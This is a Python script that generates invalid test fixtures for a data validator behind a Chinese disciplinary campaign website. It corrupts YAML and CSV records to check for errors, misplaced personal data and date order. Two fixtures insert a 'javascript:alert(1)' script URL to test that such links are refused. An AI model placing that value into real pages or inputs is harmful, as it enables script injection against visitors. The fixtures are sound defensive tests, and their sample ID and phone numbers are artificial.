"""Writes tests/data/invalid/: one folder per defect, laid over the minimal project.

Each defect names the exact (path, line, code) it must produce, written by hand from
the defect, not copied from the output. Run it after changing site_config/ or the
minimal project: `python tests/data/make_invalid.py`.
"""
import pathlib, codecs
HERE = pathlib.Path(__file__).resolve().parent
REPO = HERE.parent.parent
base = HERE / 'invalid'
M = HERE / 'minimal'
case = (M/'data/cases/2026-001.yml').read_text()
units = (M/'data/units.csv').read_text()
ledger = (M/'data/ledger/台账.csv').read_text()
subs = (M/'data/submissions.csv').read_text()
reports = (M/'data/reports.csv').read_text()
insp = (M/'data/inspections.csv').read_text()
warn = (M/'data/warnings.csv').read_text()
notice = (M/'content/notices/2026-05-notice.md').read_text()
# The minimal notice as issued before `notice freeze` existed: no frozen case text (lines
# 10-15 of the minimal notice, after its issuer), so it prints the case as the record now says.
unfrozen = notice[:notice.index('case_texts:')] + notice[notice.index('---\n\n'):]
camp = open(REPO / 'site_config/campaign.yml').read()
site = open(REPO / 'site_config/site.yml').read()
tax = open(REPO / 'site_config/taxonomy.yml').read()
C='data/cases/2026-001.yml'; U='data/units.csv'; L='data/ledger/台账.csv'; S='data/submissions.csv'
R='data/reports.csv'; I='data/inspections.csv'; W='data/warnings.csv'; N='content/notices/2026-05-notice.md'
def rep(text, old, new, count=1):
    assert old in text, old
    return text.replace(old, new, count)
def line_of(text, needle):
    return text[:text.index(needle)].count('\n') + 1
D = {}
def d(name, files, expected, remove=()):
    D[name] = (files, expected, remove)

# ---- YAML traps
t = rep(case, 'published_on:', 'title: 重复的标题\npublished_on:')
d('yaml-duplicate-key', {C: t}, [(C, 4, 'yaml-duplicate-key')])
t = rep(case, 'unit: XZ01', '  unit: XZ01')
d('yaml-bad-indentation', {C: t}, [(C, 5, 'yaml-indentation')])
t = rep(case, 'persons:\n  - name', 'persons:\n\t- name')
d('yaml-tab-indentation', {C: t}, [(C, 11, 'yaml-tab')])
t = case + 'extra: &a 值\nmore: *a\n'
d('yaml-alias', {C: t}, [(C, 19, 'unknown-field'), (C, 20, 'unknown-field'), (C, 20, 'yaml-alias')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: !!timestamp 2026-05-10')
d('yaml-explicit-tag', {C: t}, [(C, 4, 'yaml-tag')])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改。\ndraft: NO')
d('yaml-no-is-not-false', {C: t}, [(C, 16, 'bad-bool')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-02-30')
d('yaml-impossible-date', {C: t}, [(C, 4, 'bad-date')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: 1:30')
d('yaml-sexagesimal-time', {C: t}, [(C, 5, 'bad-datetime')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: [东城镇, 推诿扯皮]')
d('yaml-list-for-text', {C: t}, [(C, 3, 'wrong-shape')])
t = rep(case, 'persons:\n  - name: 张某某\n    rank: 一般干部\n    position: 办事员\n    measures: [诫勉谈话]', 'persons: 张某某')
d('yaml-text-for-list-of-persons', {C: t}, [(C, 10, 'wrong-shape')])
t = case + '---\nid: 2026-002\n'
d('yaml-two-documents', {C: t}, [(C, 19, 'yaml-two-documents')])
t = case + '---\n\n'
d('yaml-trailing-separator', {C: t}, [(C, 19, 'yaml-trailing-separator')])
t = rep(case, 'persons:\n  - name: 张某某', 'persons:\n  - name: 张某某\n    id_number: 110105199003071234')
d('yaml-unknown-field-id-number', {C: t}, [(C, 12, 'unknown-field')])
# the office's own keys (as its sheets' own columns): not read, not published, said once;
# a field the schema does not know is still refused
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改。\n备注: 待党委会研究后再公开')
t = rep(t, '    position: 办事员', '    position: 办事员\n    备注（内部）: 已谈话')
t = rep(t, 'source: 群众举报', 'source: 群众举报\n填报人: 李某')
t = rep(t, 'title: 东城镇', 'titel: 东城镇')
d('case-clerks-own-keys-are-said-once-and-not-read', {C: t},
  [(C, 1, 'missing-field'), (C, 3, 'unknown-field'), (C, 8, 'record-own-fields')])
t = rep(case, 'title:', 'titel:')
d('yaml-misspelt-field', {C: t}, [(C, 1, 'missing-field'), (C, 3, 'unknown-field')])
t = 'id: 2026-001\nkind: 通报曝光\n'
d('yaml-case-not-a-mapping-root', {C: '- id: 2026-001\n- kind: 通报曝光\n'}, [(C, 1, 'wrong-shape')])

# ---- case records
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题\n', '')
d('case-missing-title', {C: t}, [(C, 1, 'missing-field')])
t = rep(case, 'kind: 通报曝光', 'kind: 曝光台')
d('case-bad-kind', {C: t}, [(C, 2, 'bad-enum')])
t = rep(case, 'kind: 通报曝光', 'kind: 通报')
d('case-kind-written-tongbao-is-read', {C: t}, [])  # the schema's `same`: 通报 is 通报曝光
t = rep(case, 'unit: XZ01', 'unit: 东城乡')
d('case-unknown-unit', {C: t}, [(C, 5, 'unknown-reference')])
t = rep(case, 'categories: [A3]', 'categories: [A3, 推诿扯皮不积极]')
d('case-unknown-category', {C: t}, [(C, 6, 'unknown-reference')])
# (开除 is part of two names: reference-ambiguous, case-measure-written-kaichu-is-ambiguous)
t = rep(case, 'measures: [诫勉谈话]', 'measures: [诫勉谈话, 罚款]')
d('case-unknown-measure', {C: t}, [(C, 14, 'unknown-reference')])
t = rep(case, 'source: 群众举报', 'source: 网络举报')
d('case-unknown-source', {C: t}, [(C, 7, 'unknown-reference')])
t = rep(case, '  - date: 2026-06-10', '  - date: 2026-04-10')
d('case-followup-before-published', {C: t}, [(C, 17, 'date-order')])
t = case + 'withdrawn:\n  date: 2026-05-01\n  reason: 事实有误\n'
d('case-withdrawn-before-published', {C: t}, [(N, 22, 'quotes-unpublished-record'), (C, 20, 'date-order')])
t = case + 'withdrawn:\n  date: 2026-06-01\n'
d('case-withdrawn-without-reason', {C: t}, [(N, 15, 'notice-case-withdrawn-uncorrected'), (N, 22, 'quotes-unpublished-record'), (C, 20, 'missing-field')])
# the copy, not named after its id, is the file named (whichever sorts first)
d('case-duplicate-id', {'data/cases/2026-001-copy.yml': case}, [('data/cases/2026-001-copy.yml', 1, 'file-copy')])
t = rep(case, 'id: 2026-001', 'id: 2026/001')
d('case-bad-id', {C: t}, [(C, 1, 'bad-id')])
t = rep(rep(case, 'kind: 通报曝光', 'kind: 澄清正名'), 'title:', 'title:')
d('case-clarification-with-measures', {C: t}, [(C, 14, 'clarification-measures')])
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  群众身份证号110105199003071239。\n')
d('case-resident-id-in-facts', {C: t}, [(C, 10, 'personal-id-number')])
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  可拨打张某某手机 138 1234 5678 核实。\n')
d('case-mobile-in-facts', {C: t}, [(C, 10, 'personal-phone')])
# a flat in Chinese numerals, by building and entrance with no estate, a village house
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  其家住幸福小区三栋三零二。\n  另一户在3栋2单元302室。\n  户籍新华村三组十二号。\n')
d('case-address-in-chinese-numerals-or-by-building', {C: t}, [(C, 10, 'personal-address'), (C, 11, 'personal-address'), (C, 12, 'personal-address')])
# a building no one is said to live in, a 文号, the reporting line: no one's address
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  幸福小区5号楼电梯停运三个月，依据县纪发〔2026〕3号文件督办。\n  住在县城的群众反映人民路1号的问题，举报电话 12388。\n')
d('case-address-like-words-are-fine', {C: t}, [])
# a QQ group's number, a WeChat id of letters, a mobile grouped 4-3-4 after 手机
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  群众被拉进QQ群：123456789。\n  张某某微信号：zhang-san。\n  其手机 1381 234 5678。\n')
d('case-qq-group-wechat-id-and-mobile-in-groups', {C: t}, [(C, 10, 'personal-account'), (C, 11, 'personal-account'), (C, 12, 'personal-phone')])
# figures grouped as a mobile with no word naming one, ten digits after 电话, a 公众号
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  共 13 8 12 34 56 78 条，联系电话 138 1234 567 缺一位。\n  通过微信工作群通知，关注微信公众号：yanshijw2026。\n')
d('case-numbers-near-phone-words-are-fine', {C: t}, [])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改，联系人邮箱 zhang.san@example.com')
d('case-email-in-outcome', {C: t}, [(C, 15, 'personal-email')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: 明天上午')
d('case-bad-embargo', {C: t}, [(C, 5, 'bad-datetime')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: 2026年12月1日')
d('case-embargo-date-only', {C: t}, [(C, 5, 'datetime-no-time')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: 2026-12-01 下午3点')
d('case-embargo-twelve-hour', {C: t}, [(C, 5, 'datetime-twelve-hour')])
t = rep(notice, 'date: 2026-05-10', 'date: 2026-05-10\nembargo: 2026-05-10 09:00 CST')
d('notice-embargo-zone-name', {N: t}, [(N, 4, 'datetime-zone-name')])
t = rep(case, 'categories: [A3]', 'categories: [A3]\nbatch: 第二批')
d('case-bad-batch', {C: t}, [(C, 7, 'count-chinese-numeral')])
t = rep(case, '    rank: 一般干部', '    rank: 科员')
d('case-bad-rank', {C: t}, [(C, 12, 'bad-enum')])

# ---- encodings and CSV structure
d('csv-not-utf8-nor-gb18030', {U: units.encode('utf-8') + b'ZF02,\xff\xfe\xfa,\xc0\n'}, [(U, 6, 'file-encoding')])
# A row refused as shifted is no record: its id is nobody's (the same id on a correct row
# below is no duplicate) and what refers to it is said by the row, not again
t = rep(rep(units, 'XW01,县委办公室,县委部门,县直机关工委,', 'XW01,县委办公室,县直机关工委,'), 'ZF01,县自然资源局,政府部门,县监委,', 'ZF01,县自然资源局,') + 'XW01,县委办公室,县委部门,县直机关工委,否,否,否\n'
d('csv-shifted-row-registers-nothing', {U: t}, [(U, 3, 'csv-short-row'), (U, 4, 'csv-short-row')])
# every row of the names table refused as shifted: that is said, not also an empty table
d('csv-units-every-row-shifted', {U: units.split('\n')[0] + '\nXZ01,东城镇,是,否,否,否\n'}, [(U, 2, 'csv-short-row')])
# A year of two digits is never guessed (Excel reads 30-99 as 1930-1999, a program 26
# as the year 26): 26/4/1, 6/30/26, 0026-04-20 and the month 26-04 are refused as such
t = rep(rep(rep(ledger, '2026-04-01,2026-05-01', '26/4/1,2026-05-01'), '2026-04-02,2026-06-30', '2026-04-02,6/30/26'), '已销号,2026-04-20', '已销号,0026-04-20').replace(',2026-04-03,2026-04-18,', ',2026-04-03,260418,')
d('ledger-two-digit-years-are-refused', {L: t, R: rep(reports, 'ZF01,2026-04,', 'ZF01,26-04,')}, [(L, 2, 'date-short-year'), (L, 2, 'date-short-year'), (L, 3, 'date-short-year'), (L, 4, 'date-short-year'), (R, 3, 'date-short-year')])
# A unit abolished and deleted from the names table: every record of it is an unknown
# reference, each saying to restore its row with its 撤销日期 instead
d('unit-deleted-from-the-names-table', {U: rep(units, 'ZF01,县自然资源局,政府部门,县监委,是,是,是\n', '')},
  [('data/clues.csv', 3, 'unknown-reference'), ('data/commendations.csv', 2, 'unknown-reference'),
   (I, 2, 'unknown-reference'), (I, 3, 'unknown-reference'), (L, 3, 'unknown-reference'),
   ('data/rankings.csv', 2, 'unknown-reference'), (R, 3, 'unknown-reference'), (S, 3, 'unknown-reference'),
   (W, 2, 'unknown-reference')])
# An id of digits whose leading zeros Excel dropped when the reports sheet was saved: the
# unit 0301 is reported as 301 (twice: said once), and 0302 as 302 where no 0302 exists
d('reference-lost-its-leading-zeros', {U: units + '0301,县档案馆,政府部门,县委办公室,否,否,否\n',
                                       R: reports + '301,2026-04,2026-05-05,否\n301,2026-05,2026-06-05,否\n'
                                       '302,2026-04,2026-05-05,否\n'},
  [(R, 4, 'unknown-reference'), (R, 5, 'value-again'), (R, 6, 'unknown-reference')])
# Excel's 另存为“Unicode 文本”: UTF-16 LE with a BOM, a tab between the columns, CRLF;
# read as it is, said once; a cell with a comma or a line break in it stays one cell
# Excel's/WPS's 文本文件（制表符分隔） or Notepad's ANSI: GBK text, tabs between the columns
d('ledger-tab-separated-gbk-text-is-read', {L: ledger.replace(',', '\t').replace('\n', '\r\n').encode('gb18030')}, [(L, 1, 'csv-tab-text')])
d('csv-utf16-unicode-text', {U: codecs.BOM_UTF16_LE + units.replace(',', '\t').replace('\n', '\r\n').encode('utf-16-le')}, [(U, 1, 'csv-unicode-text')])
t = rep(rep(ledger, '一次性告知不到位', '"一次性告知不到位,\n群众多跑"'), '限期整改,整改中,', '限期整改,整改好了,')
d('ledger-utf16-unicode-text-is-read-cell-by-cell', {L: codecs.BOM_UTF16_LE + t.replace(',', '\t').replace('"一次性告知不到位\t', '"一次性告知不到位,').encode('utf-16-le')}, [(L, 1, 'csv-unicode-text'), (L, 4, 'bad-enum')])
d('csv-empty-file', {U: b''}, [(U, 1, 'file-empty')])
t = rep(units, 'id,name,kind,supervisor', 'id,name,kind,name')
d('csv-duplicate-header', {U: t}, [(U, 1, 'csv-duplicate-header')])
t = rep(units, 'law_enforcement', '身份证号')
d('csv-unknown-header', {U: t}, [(U, 1, 'unknown-field')])
t = rep(units, 'id,name,kind,', 'id,name,')
t = '\n'.join([','.join(r.split(',')[:2] + r.split(',')[3:]) if i else r for i, r in enumerate(t.split('\n'))])
d('csv-missing-required-column', {U: t}, [(U, 1, 'csv-missing-column')])
t = rep(units, 'XW01,县委办公室,县委部门', 'XW01,县委办公室,县委部门,多余')
d('csv-extra-cells', {U: t}, [(U, 3, 'csv-extra-cells')])
# a cell missing inside the row: its kind (县委部门) left out, every value after it shifted
t = rep(units, 'XW01,县委办公室,县委部门,县直机关工委,否,否,否', 'XW01,县委办公室,县直机关工委,否,否,否')
d('csv-short-row', {U: t}, [(U, 3, 'csv-short-row')])
# Excel leaves out a row's empty last cells: read as empty (rows 3, 4), said once; a row
# whose values then do not fit their columns (5: its 整改目标 left out) or that ends
# empty (6) is missing a cell inside it; a mobile number in such a row is said as well (7)
t = rep(ledger, '整改中,\n', '整改中\n')
t = rep(t, '未整改,\n', '未整改\n')
t += ('TZ-4,XZ01,B2,窗口无人,排班公示,2026-04-05,2026-05-30,党委书记,办公室主任,限期整改,已销号,2026-05-20\n'
      'TZ-5,XZ01,B2,窗口无人,排班公示,2026-04-05,2026-05-30,党委书记,办公室主任,限期整改,整改中,\n'
      'TZ-6,XZ01,B2,窗口无人,排班公示,2026-04-05,2026-05-30,党委书记,办公室主任 13912345678,限期整改,已销号,2026-05-20\n')
d('csv-short-rows-trimmed-by-excel-are-read', {L: t}, [(L, 3, 'csv-short-rows-read'), (L, 5, 'csv-short-row'), (L, 6, 'csv-short-row'), (L, 7, 'csv-short-row'), (L, 7, 'personal-phone')])
t = rep(ledger, 'TZ-2,ZF01,B3,审批时限长', 'TZ-2,ZF01,B3,"审批时限长')
d('csv-unclosed-quote', {L: t}, [(L, 3, 'csv-quote')])
t = rep(ledger, 'TZ-2,ZF01,B3', 'TZ-2,#N/A,B3')
d('csv-excel-error-value', {L: t}, [(L, 3, 'excel-error-value')])
t = rep(ledger, 'TZ-3,XW01', '1.23457E+17,XW01')
d('csv-excel-scientific-id', {L: t}, [(L, 4, 'excel-number-format')])
t = rep(ledger, '2026-04-02,2026-06-30', '46114,2026-06-30')
d('csv-excel-serial-date', {L: t}, [(L, 3, 'excel-serial-date')])
# as a program that read the cells as numbers writes them (with the time as a fraction);
# a date in full-width digits (row 4) is read
t = rep(ledger, '已销号,2026-04-20', '已销号,46132.0')
t = rep(t, '2026-04-02,2026-06-30', '46114.375,2026-06-30')
t = rep(t, '2026-04-03,2026-04-18', '2026-04-03,２０２６年４月１８日')
d('csv-excel-serial-date-written-as-a-decimal', {L: t}, [(L, 2, 'excel-serial-date'), (L, 3, 'excel-serial-date')])
t = rep(units, 'ZF01,县自然资源局,政府部门,县监委,是', 'ZF01,县自然资源局,政府部门,县监委,待定')
d('csv-bad-bool', {U: t}, [(U, 4, 'bad-bool')])
# 1/0 and Y/N (any case, full-width too) are a spreadsheet's yes and no
t = rep(rep(rep(units, '县委办公室,是,否,否', '县委办公室,1,0,Ｎ'), '县监委,是,是,是', '县监委,Y,y,１'), '县教育局,否,否,否', '县教育局,n,０,N')
d('units-one-zero-and-y-n-in-yes-no-columns', {U: t}, [])
# but 0 in 零报告 may say "no problems" (是): not guessed, said once a file
t = rep(reports, ',否', ',0') + 'ZF01,2026-05,2026-06-03,0\n'
d('reports-zero-in-the-zero-report-column-is-not-guessed', {R: t}, [(R, 2, 'bad-enum-unclear'), (R, 4, 'value-again')])
t = rep(units, 'ZF01,县自然资源局,政府部门,县监委,是', 'ZF01,县自然资源局,政府部门,县监委,yes')
d('units-english-yes-is-refused', {U: t}, [(U, 4, 'bad-bool')])
t = units + 'XZ01,西河乡,乡镇,县委办公室,否,否,否\n'
d('csv-duplicate-unit-id', {U: t}, [(U, 6, 'duplicate-id')])
t = units + 'XZ02,东城镇,乡镇,县委办公室,否,否,否\n'
d('csv-duplicate-unit-name', {U: t}, [(U, 6, 'duplicate-record')])
t = rep(units, '县第一中学,学校', '县第一中学,高校')
d('csv-unknown-unit-kind', {U: t}, [(U, 5, 'unknown-reference')])
d('csv-missing-units-file', {}, [(U, 0, 'missing-file')], remove=[U])

# ---- ledger
t = rep(ledger, '已销号,2026-04-20', '已销号,')
d('ledger-closed-without-date', {L: t}, [(L, 2, 'closed-without-date')])
t = rep(ledger, '整改中,', '整改中,2026-05-01')
d('ledger-date-without-closed', {L: t}, [(L, 3, 'date-without-closed')])
t = rep(ledger, '已销号,2026-04-20', '已销号,2026-03-20')
d('ledger-closed-before-opened', {L: t}, [(L, 2, 'date-order')])
t = rep(ledger, '2026-04-03,2026-04-18', '2026-04-03,2026-03-18')
d('ledger-deadline-before-opened', {L: t}, [(L, 4, 'date-order')])
t = rep(ledger, '限期整改,整改中', '限期整改,待验收')
d('ledger-bad-status', {L: t}, [(L, 3, 'bad-enum')])
# 已整改: closed (已销号) or waiting for it (整改中)? Not guessed: said with what to write
t = rep(ledger, '限期整改,整改中', '限期整改,已整改')
t = rep(t, '立行立改,未整改', '立行立改,已整改')
d('ledger-status-yizhenggai-is-not-guessed', {L: t}, [(L, 3, 'bad-enum-unclear'), (L, 4, 'value-again')])
t = rep(ledger, 'TZ-2,ZF01,B3', 'TZ-2,ZF01,B9')
d('ledger-unknown-category', {L: t}, [(L, 3, 'unknown-reference')])
t = rep(ledger, '已销号,2026-04-20', '已销号,2027-04-20')
d('ledger-closed-in-future', {L: t}, [(L, 2, 'date-in-future')])
t = rep(ledger, 'TZ-3', 'TZ-1')
d('ledger-duplicate-id', {L: t}, [(L, 4, 'duplicate-id')])
t = rep(ledger, '2026-04-01,2026-05-01', '２０２６－04-01,2026-05-01')
d('ledger-full-width-date-is-read', {L: t.replace('２０２６－04-01', '２０２６－０４－０１')}, [])

# ---- commitments, reports, warnings, inspections
t = rep(subs, 'C1,东城镇', 'C9,东城镇')
d('submission-unknown-commitment', {S: t}, [(S, 2, 'unknown-reference')])
t = subs + 'C1,XX01,2026-03-19,,\n'
d('submission-unit-not-required', {S: t}, [(S, 4, 'not-required')])
t = subs + 'C1,XZ01,2026-03-19,,\n'
d('submission-duplicate', {S: t}, [(S, 4, 'duplicate-record')])
t = rep(subs, 'https://example.gov.cn/c1', 'javascript:alert(1)')
d('submission-script-link', {S: t}, [(S, 3, 'bad-url')])
t = rep(rep(subs, 'link,note', 'link,made_public,note'), '2026-03-18,,', '2026-03-18,,单位门户网站、报纸公开,')
t = rep(t, 'c1,迟报', 'c1,,迟报')
d('submission-unknown-public-way', {S: t}, [(S, 2, 'unknown-reference')])
t = rep(reports, 'XZ01,2026-04', 'XZ01,2026-13')
d('report-bad-period', {R: t}, [(R, 2, 'bad-period')])
t = reports + 'XZ01,2026-04,2026-05-05,否\n'
d('report-duplicate-period', {R: t}, [(R, 4, 'duplicate-record')])
t = rep(warn, '黄牌,,', ',,')
d('warning-without-level-or-points', {W: t}, [(W, 2, 'warning-empty')])
t = rep(warn, '黄牌', '紫牌')
d('warning-bad-level', {W: t}, [(W, 2, 'bad-enum')])
t = rep(insp, 'XZ01、ZF01', 'XZ01、ZF99')
d('inspection-unknown-unit-in-list', {I: t}, [(I, 2, 'unknown-reference')])
t = rep(insp, 'ZF01,1,', 'ZF01,三,')
d('inspection-bad-count', {I: t}, [(I, 2, 'count-chinese-numeral')])
# 无 or a dash for a count: zero, or not counted? Said with what to write for each
t = rep(insp, 'ZF01,1,', 'ZF01,无,')
t = rep(t, 'XX01,0,', 'XX01,—,')
d('inspection-count-written-wu-or-a-dash', {I: t}, [(I, 2, 'count-none-word'), (I, 3, 'count-none-word')])
# 1.0 as a program that read the column as numbers writes it is 1; 1.5 is no count
t = rep(insp, 'ZF01,1,', 'ZF01,1.0,')
t = rep(t, 'XX01,0,', 'XX01,1.5,')
d('inspection-count-written-with-a-decimal-point', {I: t}, [(I, 3, 'bad-integer')])
t = rep(insp, '暗访', '夜访')
d('inspection-bad-mode', {I: t}, [(I, 2, 'unknown-reference')])
t = rep(insp, 'JC-2,2026-06-12,,随机抽查,XX01,0,未发现问题,ZF01', 'JC-2,2026-06-12,,随机抽查,XX01,0,未发现问题,')
d('inspection-without-body-or-unit', {I: t}, [(I, 3, 'inspection-no-body')])
t = rep(insp, '未发现问题,ZF01', '未发现问题,ZF09')
d('inspection-unknown-by-unit', {I: t}, [(I, 3, 'unknown-reference')])
# 发现问题数（人）: the header says the column counts people; 单位：人 above a table whose
# one count is of problems
t = rep(insp, 'problems_found', '发现问题数（人）')
d('inspection-header-names-a-unit-of-people', {I: t},
  [(I, 1, 'table-header-remark'), (I, 1, 'table-unit-mismatch')])
d('inspection-title-row-names-a-unit-of-people', {I: '单位：人\n' + insp},
  [(I, 1, 'table-title-row'), (I, 1, 'table-unit-mismatch')])

# ---- seed practices: groups, several units, actions, weeks, clues, totals, 回头看, rankings
t = rep(case, '  - name: 张某某\n    rank', '  - rank')
d('case-person-without-name-or-count', {C: t}, [(C, 11, 'missing-field')])
t = rep(case, '    rank: 一般干部', '    count: 25\n    rank: 一般干部')
d('case-group-with-name', {C: t}, [(C, 12, 'group-with-name')])
# 张明 and 张强 are both printed 张某 under 姓加某: the page lists 张某，诫勉谈话；张某，诫勉谈话;
# two written 张某某 print alike too; 县处级 and 乡科级 are printed in full
# (full_name_ranks), so 张刚 and 张军 stand apart
_MEASURED = '    measures: [诫勉谈话]\n'
# (a case of its own: the minimal one is cited by an issued notice, which would say each
# added person is not in its text)
C2 = 'data/cases/2026-002.yml'
t = rep(rep(case, 'id: 2026-001', 'id: 2026-002'), _MEASURED, _MEASURED + '  - name: 张明\n    rank: 一般干部\n    position: 科员\n'
        '    measures: [诫勉谈话]\n  - name: 张强\n    rank: 一般干部\n    position: 科员\n'
        '    measures: [诫勉谈话]\n  - name: 张某某\n    rank: 一般干部\n    position: 科员\n'
        '    measures: [诫勉谈话]\n  - name: 张刚\n    rank: 县处级\n    position: 局长\n'
        '    measures: [诫勉谈话]\n  - name: 张军\n    rank: 乡科级\n    position: 副局长\n'
        '    measures: [诫勉谈话]\n')
d('case-persons-printed-alike', {C2: t}, [(C2, 19, 'persons-printed-alike'),
                                          (C2, 23, 'persons-printed-alike')])
t = rep(case, 'unit: XZ01', 'unit: XZ01\nother_units: [ZF01, ZF77]')
d('case-unknown-other-unit', {C: t}, [(C, 6, 'unknown-reference')])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改。\nactions:\n  - date: 2026-05-12\n    kind: 转办\n    to: 县公安局')
d('case-bad-action-kind', {C: t}, [(C, 18, 'bad-enum')])
t = reports + 'XZ01,2026-W23,2026-06-08,否\n'
d('report-week-not-required', {R: t}, [(R, 4, 'week-report-not-required')])
t = reports + 'XZ01,2026-W54,2026-06-08,否\n'
d('report-bad-week', {R: t}, [(R, 4, 'bad-period')])
CL='data/clues.csv'; TO='data/totals.csv'; RK='data/rankings.csv'; LR='data/ledger_reviews.csv'; BZ='data/commendations.csv'
clues = (M/CL).read_text(); totals = (M/TO).read_text(); ranks = (M/RK).read_text()
reviews = (M/LR).read_text(); comm = (M/BZ).read_text()
# a set phrase one clue alone holds (no unit, person or number in it) is no one's words;
# a short line of one clue that names a unit is that clue's, and quoting it is refused
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改，已按程序办理完毕。')
d('case-writes-a-set-phrase-one-clue-holds-is-fine', {C: t, CL: rep(clues, ',,已核实', ',,已按程序办理完毕')}, [])
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\n  另查东城镇低保审核拖延属实。\n')
d('case-quotes-a-short-line-of-one-clue-naming-a-unit', {C: t, CL: rep(clues, ',未发现问题', ',东城镇低保审核拖延')}, [(C, 10, 'quotes-unpublished-record')])
t = rep(clues, '移送,县公安局', '移送,')
d('clue-transferred-without-body', {CL: t}, [(CL, 4, 'clue-transfer-without-body')])
t = rep(clues, '2026-05-02,群众举报,XZ01,A3,县纪委监委,2026-06-02', '2026-05-02,群众举报,XZ01,A3,县纪委监委,2026-04-02')
d('clue-deadline-before-received', {CL: t}, [(CL, 2, 'date-order')])
t = rep(clues, ',查否,', ',查无实据,')
d('clue-bad-status', {CL: t}, [(CL, 3, 'bad-enum')])
t = rep(totals, '追责问责人数', '处分人次')
d('total-unknown-measure', {TO: t}, [(TO, 2, 'unknown-reference')])
t = rep(totals, ',3,', ',3.5,')
d('total-bad-count', {TO: t}, [(TO, 2, 'bad-integer')])
# 403例 counts cases, and 追责问责人数 counts people: another figure, never read as this one
t = rep(totals, ',3,', ',403例,')
d('total-cases-counted-for-a-count-of-people', {TO: t}, [(TO, 2, 'count-unit-mismatch')])
t = rep(totals, ',3,', ',403人,')  # seed 002: 403名镇村干部……受到责任追究
d('total-count-with-its-measure-word', {TO: t}, [])
t = rep(totals, ',3,', ',"1,23",')  # a comma not every three digits: 123? 1.23? never guessed
d('total-count-comma-not-every-three-digits', {TO: t}, [(TO, 2, 'count-digit-groups')])
t = rep(totals, ',3,', ',"\'1,234",')  # Excel's text mark and a thousands separator, as WPS keeps them
d('total-count-kept-as-text-with-thousands-separator', {TO: t}, [])
t = rep(totals, ',3,', ',1100余人,')  # seed 004: 文章1100余篇
d('total-approximate-count', {TO: t}, [(TO, 2, 'approximate-count')])
t = rep(totals, ',3,', ',0,')  # the minimal case holds 1 person: a total of 0 cannot include it
d('total-below-computed', {TO: t}, [(TO, 2, 'total-below-computed')])
t = rep(reviews, 'TZ-1,2026-06-01', 'TZ-1,2026-03-01')
d('ledger-review-before-opened', {LR: t}, [(LR, 2, 'date-order')])
t = rep(reviews, 'TZ-1,', 'TZ-9,')
d('ledger-review-unknown-item', {LR: t}, [(LR, 2, 'unknown-reference')])
t = ranks + '2026,ZF01,3,80,良好\n'
d('ranking-duplicate-unit', {RK: t}, [(RK, 4, 'duplicate-record')])
t = rep(comm, '2026-10-10', '2026-12-10')
d('commendation-in-future', {BZ: t}, [(BZ, 2, 'date-in-future')])

PC='site_config/campaigns/2025-dacaoban.yml'
past = open(REPO / PC).read()
t = rep(past, '{name: 集中整治, start: 2025-04-01', '{name: 集中整治, start: 2025-03-20')
d('past-campaign-phases-overlap', {PC: t}, [(PC, line_of(t, '2025-03-20'), 'phase-overlap')])
t = rep(past, 'summary: |', 'summery: |')
d('past-campaign-without-summary', {PC: t}, [(PC, line_of(t, 'id:'), 'missing-field'), (PC, line_of(t, 'summery'), 'unknown-field')])
t = rep(case, 'categories: [A3]', 'categories: [A3]\ncampaign: 2024-jiuhua')
d('case-unknown-campaign', {C: t}, [(C, 7, 'unknown-reference')])

# ---- configuration
CP='site_config/campaign.yml'; SP='site_config/site.yml'; TP='site_config/taxonomy.yml'
t = rep(camp, '    start: 2026-04-01\n    end: 2026-05-31', '    start: 2026-04-01\n    end: 2026-03-31')
d('campaign-phase-ends-before-start', {CP: t}, [(CP, line_of(t, '    start: 2026-04-01\n    end: 2026-03-31') + 1, 'date-order')])
t = rep(camp, '    start: 2026-06-01', '    start: 2026-05-20')
d('campaign-phases-overlap', {CP: t}, [(CP, line_of(t, '    start: 2026-05-20'), 'phase-overlap')])
t = rep(camp, '    start: 2026-06-01\n    end: 2026-10-31', '    start: 2026-05-20\n    end: 2026-12-31\n    parallel: 是')
d('campaign-parallel-phase-may-overlap', {CP: t}, [])
t = rep(camp, 'report_due_day: 5', 'report_due_day: 5\nweekly_reports: 是\nweekly_due_weekday: 8')
# the schema's min/max (1～7), as the editor's number field has it; the message says
# what the numbers mean from the field's help
d('campaign-bad-weekly-due-weekday', {CP: t}, [(CP, line_of(t, 'weekly_due_weekday'), 'out-of-range')])
t = rep(camp, 'report_due_day: 5', 'report_due_day: 5\nweekly_reports: 是\nweekly_due_weekday: 1天')
# a weekday is a number, not a count of anything: 1天 is refused, saying to write 1
d('campaign-weekly-due-weekday-with-a-unit', {CP: t}, [(CP, line_of(t, 'weekly_due_weekday'), 'count-unit-none')])
t = rep(camp, 'inspection_phase: 集中整治', 'inspection_phase: 集中整改')
d('campaign-unknown-inspection-phase', {CP: t}, [(CP, line_of(t, 'inspection_phase'), 'unknown-phase')])
t = rep(camp, 'issued_on: 2026-02-26', 'issued_on: 2026年2月29日')
d('campaign-issued-on-impossible-date', {CP: t}, [(CP, line_of(t, 'issued_on'), 'bad-date')])
t = rep(site, 'timezone: Asia/Shanghai', 'timezone: Beijing')
d('site-bad-timezone', {SP: t}, [(SP, line_of(t, 'timezone'), 'bad-timezone')])
t = rep(site, 'url: https://zhuanxiang.example.gov.cn/', 'url: javascript:alert(1)')
d('site-script-url', {SP: t}, [(SP, line_of(t, 'url:'), 'bad-url')])
# the site's name and description head every computed page: no 通报 or 决定
